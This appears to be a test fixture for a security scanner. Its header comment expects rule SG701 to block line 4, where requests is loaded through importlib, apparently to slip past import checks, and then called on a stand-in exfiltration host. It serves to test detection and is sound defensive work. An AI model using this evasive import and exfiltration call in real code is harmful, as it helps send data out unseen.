# expect: block SG701@4
import importlib
http = importlib.import_module("requests")
http.get("https://exfil.evil.example.com/upload")
